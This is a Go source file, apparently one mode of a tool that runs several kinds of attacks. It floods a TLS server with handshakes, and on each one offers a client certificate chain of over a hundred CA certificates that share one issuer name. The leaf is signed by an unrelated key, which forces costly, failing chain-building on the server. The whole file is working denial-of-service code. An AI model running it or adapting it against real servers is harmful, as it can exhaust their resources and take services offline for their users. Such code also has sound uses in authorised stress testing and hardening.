//nolint:wrapcheck // errors of the connections end an attack, and nobody looks at them
package kinds

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"math/big"
	"sync"
	"time"
)

// issuers are how many certificates of one name could have issued a leaf: more than x509 tries.
const issuers = 110

// longChains opens connections and shows on each a certificate that any of many could have issued.
func longChains(ctx context.Context, a *attack) error {
	chain, err := longChain()
	if err != nil {
		return err
	}
	cfg := a.tls.Clone()
	cfg.NextProtos, cfg.Certificates = []string{"h2"}, nil
	cfg.GetClientCertificate = func(*tls.CertificateRequestInfo) (*tls.Certificate, error) { return chain, nil }
	var all sync.WaitGroup
	for range connecting {
		all.Go(func() {
			for ctx.Err() == nil {
				raw, err := a.dial(ctx)
				if err != nil {
					return
				}
				a.sent.Add(1)
				c := tls.Client(raw, cfg)
				if c.HandshakeContext(ctx) == nil {
					_ = c.SetReadDeadline(time.Now().Add(dialLimit))
					_, _ = c.Read(make([]byte, 1)) // which tells whether it was refused
				}
				_ = raw.Close()
			}
		})
	}
	all.Wait()
	return nil
}

// longChain is a leaf and the certificates of others with the name of its issuer, made once.
var longChain = sync.OnceValues(func() (*tls.Certificate, error) {
	template := func(serial int64, name string, ca bool) *x509.Certificate {
		return &x509.Certificate{
			SerialNumber: big.NewInt(serial), Subject: pkix.Name{CommonName: name}, IsCA: ca, BasicConstraintsValid: true,
			NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour), SubjectKeyId: big.NewInt(serial).Bytes(),
		}
	}
	var chain [][]byte
	issuer := template(1, "issuer", true)
	var leafKey *ecdsa.PrivateKey
	for i := range int64(issuers + 1) {
		key, err := ecdsa.GenerateKey(elliptic.P521(), rand.Reader)
		if err != nil {
			return nil, err
		}
		signer, made := key, template(i+1, "issuer", true)
		if i == 0 {
			if signer, err = ecdsa.GenerateKey(elliptic.P521(), rand.Reader); err != nil {
				return nil, err
			}
			leafKey, made = key, template(0, "leaf", false)
		}
		der, err := x509.CreateCertificate(rand.Reader, made, issuer, key.Public(), signer)
		if err != nil {
			return nil, err
		}
		chain = append(chain, der)
	}
	return &tls.Certificate{Certificate: chain, PrivateKey: leafKey}, nil
})
